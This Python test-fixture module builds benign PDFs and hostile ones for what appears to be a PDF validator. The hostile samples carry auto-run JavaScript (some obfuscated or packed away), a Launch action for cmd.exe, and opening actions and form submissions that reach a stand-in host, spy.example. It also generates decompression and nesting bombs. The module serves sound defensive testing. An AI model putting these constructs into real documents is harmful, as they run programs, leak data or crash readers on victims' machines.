"""PDFs made by hand, byte by byte: good ones, and what a hostile one may hold."""

import zlib
from collections.abc import Callable

# What stands on the one page; other texts make other bytes.
_PAGE = "BT /F1 24 Tf 72 720 Td ({words}) Tj ET"


def pdf(
    *more: str | bytes,
    catalog: str = "",
    page: str = "",
    words: str = "Size chart",
    trailer: str = "",
    beside: str = "",
    tail: bytes = b"",
) -> bytes:
    """One page; `more` are objects from number 6 on, `catalog` and `page` entries of these dictionaries."""
    content = _PAGE.format(words=words).encode()
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page.encode() + b" >>",
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(one.encode() if isinstance(one, str) else one for one in more),
    ]
    return assembled(objects, trailer, beside.encode()) + tail


def stream(data: bytes, entries: str = "") -> bytes:
    """A stream object of these bytes."""
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


def packed(data: bytes, entries: str = "") -> bytes:
    """A stream object of these bytes, compressed."""
    return stream(zlib.compress(data, 9), f"/Filter /FlateDecode {entries}")


def assembled(objects: list[bytes], trailer: str = "", beside: bytes = b"") -> bytes:
    """A whole file: the objects numbered from 1, what no table names, their table, the trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    out += beside
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(out)


def _packed_away(inner: str) -> bytes:
    """A file whose catalog names object 8, which lies in an object stream (ISO 32000-1, 7.5.7)."""
    body = f"8 0 {inner}".encode()
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Extra 8 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: packed(body, f"/Type /ObjStm /N 1 /First {len('8 0 ')}"),
    }
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, one in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    table = len(out)
    rows = [
        (0, 0, 65_535),
        *((1, places[number], 0) for number in (1, 2, 3, 4)),
        (1, table, 0),
        (0, 0, 0),
        (0, 0, 0),
        (2, 4, 0),
    ]
    data = b"".join(bytes([kind]) + place.to_bytes(4, "big") + more.to_bytes(2, "big") for kind, place, more in rows)
    entries = f"/Type /XRef /Size {len(rows)} /W [1 4 2] /Root 1 0 R"
    out += b"5 0 obj\n" + packed(data, entries) + b"\nendobj\n" + f"startxref\n{table}\n%%EOF\n".encode()
    return bytes(out)


_JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
GOOD = {
    "one page": pdf(),
    "a link that people click": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        "/A << /S /URI /URI (https://shop.example) >> >>]"),
    "opens at a page": pdf(catalog="/OpenAction [3 0 R /Fit]"),
    "opens at a page by an action": pdf(catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "a form to be filled in": pdf("<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /F 4 >>",
        catalog="/AcroForm << /Fields [6 0 R] >>"),
    "objects in a stream": _packed_away("<< /Title (x) >>"),
    "a long chain of numbers": pdf(*(f"[{number} 0 R]" for number in range(7, 3_000)), "[6 0 R]"),
    "words that only look so": pdf(words="/JavaScript /Launch"),
}  # fmt: skip
HOSTILE = {
    "no PDF": (b"<html>", "no PDF"),
    "empty": (b"", "no PDF"),
    "something before it": (b"MZ" + pdf(), "no PDF"),
    "truncated": (pdf()[:-200], "not whole"),
    "a program behind it": (pdf(tail=b"PK\x03\x04" + b"x" * 3_000), "not whole"),
    "only its ends": (b"%PDF-1.7\n%%EOF\n", "cannot be read"),
    "a table that lies": (pdf().replace(b"startxref\n", b"startxref\n9"), "cannot be read"),
    "encrypted": (pdf("<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>", trailer="/Encrypt 6 0 R"), "encrypted"),
    "JavaScript at the opening": (pdf(catalog=f"/OpenAction {_JS}"), "JavaScript"),
    "JavaScript by name": (pdf(catalog=f"/Names << /JavaScript << /Names [(a) {_JS}] >> >>"), "JavaScript"),
    "JavaScript behind a number": (
        pdf("<< /S 7 0 R /JS (x) >>", "/JavaScript", catalog="/OpenAction 6 0 R"), "JavaScript"),
    "JavaScript spelt otherwise": (pdf(catalog="/OpenAction << /S /Java#53cript /J#53 (x) >>"), "JavaScript"),
    "JavaScript packed away": (_packed_away(_JS), "JavaScript"),
    "JavaScript that no table names": (pdf(beside=f"99 0 obj\n{_JS}\nendobj\n"), "JavaScript"),
    "JavaScript of a form": (
        pdf(f"<< /FT /Tx /AA << /K {_JS} >> >>", catalog="/AcroForm << /Fields [6 0 R] >>"), "JavaScript"),
    "a program": (pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "starts programs"),
    "another file": (
        pdf(stream(b"MZ", "/Type /EmbeddedFile"), catalog="/Names << /EmbeddedFiles 6 0 R >>"), "other files"),
    "a file on the page": (pdf(page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]"), "other files"),
    "film": (pdf(page="/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "film"),
    "fetched at the opening": (pdf(catalog="/OpenAction << /S /URI /URI (https://spy.example) >>"), "by itself"),
    "something after the opening": (
        pdf(catalog="/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /Named /N /Print >> >>"), "by itself"),
    "something on each page": (pdf(page="/AA << /O << /S /URI /URI (https://spy.example) >> >>"), "by itself"),
    "a form that sends": (
        pdf(page="/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (https://spy.example) >> >>]"), "form sends"),
    "another document": (
        pdf(page="/Annots [<< /Subtype /Link /A << /S /GoToR /F (//spy.example/x) >> >>]"), "from elsewhere"),
    "a stream from elsewhere": (pdf(stream(b"", "/F (//spy.example/x)")), "from elsewhere"),
    "XFA": (pdf(catalog="/AcroForm << /XFA 6 0 R >>"), "XFA"),
    "a circle of pages": (pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "cannot be read"),
    "no pages": (pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0"), "no page"),
}  # fmt: skip
# Made when they are asked for: large to make, small to send.
BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "a bomb": (lambda: pdf(packed(b"\0" * 210_000_000)), "unpacks to more"),
    "a bomb of objects": (lambda: _packed_away("(" + "x" * 90_000_000 + ")"), "cannot be read"),
    "deep arrays": (lambda: pdf("[" * 100_000 + "]" * 100_000), "nested too deep"),
    "a million values": (lambda: pdf("[" + "0 " * 1_000_001 + "]"), "cannot be read"),
    "two hundred thousand objects": (lambda: pdf(*["0"] * 200_000), "objects"),
    "text and no end": (lambda: pdf("(" * 1_900_000), "cannot be read"),
}  # fmt: skip
